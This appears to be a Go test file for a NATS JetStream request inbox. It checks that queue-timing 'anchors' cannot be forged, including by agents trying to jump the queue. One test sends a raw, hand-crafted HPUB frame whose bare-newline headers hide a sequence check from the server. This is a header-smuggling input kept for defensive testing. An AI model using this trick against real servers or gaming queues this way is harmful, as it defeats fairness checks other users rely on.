func anchorNaming(subject, seq string) nats.Header {
	return nats.Header{jetstream.MsgTTLHeader: {endTTL.String()}, jetstream.ExpectedLastSubjSeqHeader: {seq}, jetstream.ExpectedLastSubjSeqSubjHeader: {subject}}
}

// A set's waiting time counts from the first copy its asker stored: an
// anchor dates it only when the server stored the anchor while a copy of
// the set was (it names the copy, which the server checks). An anchor
// stored alone an hour before its set, as an agent would to jump the
// queue, or naming another set's copy, itself or nothing, or with a
// header more (which could hide the check from the server), dates
// nothing and is deleted: the set is dated from its copy. Its asker's
// anchor dates it once its first copy has left the server.
func TestAnchorDates(t *testing.T) {
	_, a, id := setup(t)
	f, _, _ := handFeed(t, a, id, "one")
	reply, _ := age.GenerateX25519Identity()
	now := time.Now()
	hourAgo := now.Add(-time.Hour)
	copyOf := func(secret string, n int) string { return a.subject("set", setID(secret)+"."+copyID(secret, n)) }
	other := newSecret()
	for i, c := range []struct {
		what   string
		anchor func(secret string) nats.Header
		dated  bool
	}{
		{"stored alone", func(string) nats.Header { return nats.Header{jetstream.MsgTTLHeader: {endTTL.String()}} }, false},
		{"naming another set's copy", func(string) nats.Header { return anchorNaming(copyOf(other, 1), "7") }, false},
		{"naming itself", func(s string) nats.Header { return anchorNaming(a.subject("set", setID(s)+".0"), "7") }, false},
		{"naming no message", func(s string) nats.Header { return anchorNaming(copyOf(s, 1), "0") }, false},
		{"with a header more", func(s string) nats.Header {
			h := anchorNaming(copyOf(s, 1), "7")
			h.Set("X", "1")
			return h
		}, false},
		{"naming its first copy", func(s string) nats.Header { return anchorNaming(copyOf(s, 1), "7") }, true},
	} {
		secret := newSecret()
		sid := setID(secret)
		at := stored{seq: uint64(10 * (i + 1))}
		f.onAnchor(sid, c.anchor(secret), at, hourAgo)
		body, err := sealJSON(wireSet{Request: *askRequest(), Reply: reply.Recipient().String(), Secret: secret}, id.Recipient().String())
		if err != nil {
			t.Fatal(err)
		}
		// Its first copy has left the server: the copy read is its third.
		f.onSet(sid, copyOf(secret, 3), stored{seq: at.seq + 1}, now, f.open(sid, body))
		e := f.byID[sid]
		if e == nil {
			t.Fatalf("the set whose anchor is %s was not taken", c.what)
		}
		want := now
		if c.dated {
			want = hourAgo
		}
		if !e.asked.Equal(want) {
			t.Errorf("a set whose anchor is %s is dated %s, want %s", c.what, e.asked, want)
		}
		if deleted := slices.Contains(f.deletes, at); deleted == c.dated {
			t.Errorf("an anchor %s: deleted %v", c.what, deleted)
		}
	}
}

// An anchor whose check the server never read dates nothing. An agent
// writing the headers by hand puts the check on lines after a bare
// newline: the server reads them as part of the line before, and stores
// the anchor ahead of any copy of its set, where this client reads them as
// headers of their own; the line they follow gives them away.
func TestAnchorHiddenCheck(t *testing.T) {
	ns, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	k, c := newAsk(t, a, a.To)
	anchor := a.subject("set", k.id+".0")
	js, _ := jetstream.New(c.nc)
	stream, err := js.Stream(context.Background(), a.setsStream())
	if err != nil {
		t.Fatal(err)
	}
	// The running inbox may delete the anchor as soon as it is stored:
	// that it was is read from the stream's last sequence, which nothing
	// else moves meanwhile.
	lastSeq := func() uint64 {
		info, err := stream.Info(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return info.State.LastSeq
	}
	before := lastSeq()
	raw, err := net.Dial("tcp", ns.HostPort())
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	hdr := "NATS/1.0\r\nX: 1\n" + jetstream.ExpectedLastSubjSeqHeader + ": 5\n" + jetstream.ExpectedLastSubjSeqSubjHeader + ": " + k.copySubject(1) + "\r\n" + jetstream.MsgTTLHeader + ": " + endTTL.String() + "\r\n\r\n"
	if _, err := fmt.Fprintf(raw, "CONNECT {\"verbose\":false,\"headers\":true}\r\nHPUB %s %d %d\r\n%s\r\n", anchor, len(hdr), len(hdr), hdr); err != nil {
		t.Fatal(err)
	}
	anchored := time.Now()
	for lastSeq() == before {
		if time.Since(anchored) > testutil.Slow {
			t.Fatal("the server did not store the anchor")
		}
		time.Sleep(20 * time.Millisecond)
	}
	time.Sleep(2 * time.Second)
	if err := k.beat(context.Background(), true); err != nil {
		t.Fatal(err)
	}
	if err := k.post(context.Background()); err != nil {
		t.Fatal(err)
	}
	if s := waitFor(t, in.q, 1)[0]; !s.Arrived.After(anchored.Add(time.Second)) {
		t.Errorf("a set asked 2 s after an anchor stored alone is shown as asked at %s, its anchor's time (%s)", s.Arrived, anchored)
	}
}

// A server that is late with the login of a connection (its "Authentication
// Timeout", or its own ping before its answer) is busy, not absent: the
// login is made again, and only when it is late every time is the error
// the asker's, saying so. An account at its most connections says that.
func TestLoginRefused(t *testing.T) {
	ns := natstest.Start(t, nil)
	for _, c := range []struct {
		refused int
		line    string
		want    string
	}{
		{loginTries - 1, "-ERR 'Authentication Timeout'", ""},
		{loginTries - 1, "PING", ""},
		{loginTries, "-ERR 'Authentication Timeout'", "did not finish this connection's login in time, 4 times (nats: Authentication Timeout): the server, or this machine, is too busy"},
		{loginTries, "PING", "did not finish this connection's login in time, 4 times (nats: expected 'PONG', got 'PING'): the server, or this machine, is too busy"},
		{1, "-ERR 'maximum account active connections exceeded'", "holds as many connections as it allows (nats: maximum account active connections exceeded): end some"},
	} {
		gate := newLoginGate(t, ns.HostPort(), c.refused, c.line)
		a, err := inbox.ParseAddr("nats://"+gate.Addr().String()+"/team", Remote())
		if err != nil {
			t.Fatal(err)
		}
		_, err = a.Dial().Probe(context.Background())
		switch {
		case c.want == "" && err != nil:
			t.Errorf("with %d logins answered %s: %v", c.refused, c.line, err)
		case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)):
			t.Errorf("with %d logins answered %s: %v; want %q", c.refused, c.line, err, c.want)
		}
	}
}

// newLoginGate listens for connections to target: to the first refused of
// them it gives the server's greeting and then line for the login, as a
// busy or a full server would; the others it forwards.
func newLoginGate(t *testing.T, target string, refused int, line string) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for n := 0; ; n++ {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s, err := net.Dial("tcp", target)
			if err != nil {
				c.Close()
				return
			}
			if n >= refused {
				go func() { io.Copy(s, c); s.Close() }()
				go func() { io.Copy(c, s); c.Close() }()
				continue
			}
			greeting, _ := bufio.NewReader(s).ReadString('\n')
			s.Close()
			io.WriteString(c, greeting)
			bufio.NewReader(c).ReadString('\n')
			io.WriteString(c, line+"\r\n")
			c.Close()
		}
	}()
	return ln
}
